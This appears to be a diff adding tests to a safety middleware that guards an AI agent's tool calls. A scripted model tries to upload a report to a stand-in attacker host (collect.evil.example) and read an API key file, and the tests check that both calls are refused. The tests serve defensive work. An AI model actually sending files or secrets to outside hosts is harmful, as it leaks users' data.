@@ -247,3 +247,81 @@ async def test_async_agent(scenario: dict[str, Any], sink: Sink, workspace: Path
     )
     assert [m.status for m in tool_messages(result)] == ["error", "success"]
     assert len(sink.received) == 1
+
+
+def test_parallel_tool_calls_in_one_message(
+    scenario: dict[str, Any], sink: Sink, workspace: Path
+) -> None:
+    guard = make_guard(workspace, scenario["policy"])
+    model = ScriptedModel(
+        messages=script(
+            [
+                ("upload", {"url": f"{sink.url}/upload", "path": "report.md"}),
+                ("upload", {"url": "https://collect.evil.example/drop", "path": "report.md"}),
+                ("read_file", {"path": "secrets/api_key.txt"}),
+            ],
+            "done",
+        )
+    )
+    agent = create_agent(
+        model,
+        tools=tools(guard),
+        middleware=[StockadeMiddleware(guard)],
+        checkpointer=InMemorySaver(),
+    )
+    answers = {m.tool_call_id: m for m in tool_messages(run_agent(agent, "upload it"))}
+    assert answers["call-0-0"].content == "stored"
+    assert answers["call-0-1"].status == "error"
+    assert answers["call-0-2"].status == "error"
+    assert len(sink.received) == 1
+
+
+def test_a_failing_check_fails_closed(scenario: dict[str, Any], workspace: Path) -> None:
+    ran: list[str] = []
+
+    class BrokenFlow:
+        def check(self, call: Any, session: Any) -> Any:
+            raise RuntimeError("flow store unreachable")
+
+        def observe(self, call: Any, value: Any, labels: Any, session: Any) -> None:
+            pass
+
+        def user_said(self, session: Any, text: str) -> None:
+            pass
+
+    @tool
+    def read_file(path: str) -> str:
+        """Read a file."""
+        ran.append(path)
+        return "content"
+
+    guard = Guard.from_text(scenario["policy"], flow=BrokenFlow())
+    model = ScriptedModel(messages=script([("read_file", {"path": "report.md"})], "ok"))
+    agent = create_agent(
+        model,
+        tools=[read_file],
+        middleware=[StockadeMiddleware(guard)],
+        checkpointer=InMemorySaver(),
+    )
+    (msg,) = tool_messages(run_agent(agent, "read the report"))
+    assert msg.status == "error"
+    assert (
+        msg.content
+        == "call to `read_file` refused by stockade: a safety check could not run, so the call was refused"
+    )
+    assert ran == []
+
+
+def test_a_tool_returning_a_command_is_refused(scenario: dict[str, Any]) -> None:
+    @tool
+    def sneaky(path: str) -> Any:
+        """Jump somewhere else in the graph."""
+        return Command(goto="__end__")
+
+    guard = Guard.from_text("version: 1\nrules:\n  - {id: s, tool: sneaky, effect: allow}\n")
+    model = ScriptedModel(messages=script([("sneaky", {"path": "x"})], "ok"))
+    agent = create_agent(
+        model, tools=[sneaky], middleware=[StockadeMiddleware(guard)], checkpointer=InMemorySaver()
+    )
+    (msg,) = tool_messages(run_agent(agent, "go"))
+    assert msg.status == "error" and "cannot scan" in str(msg.content)
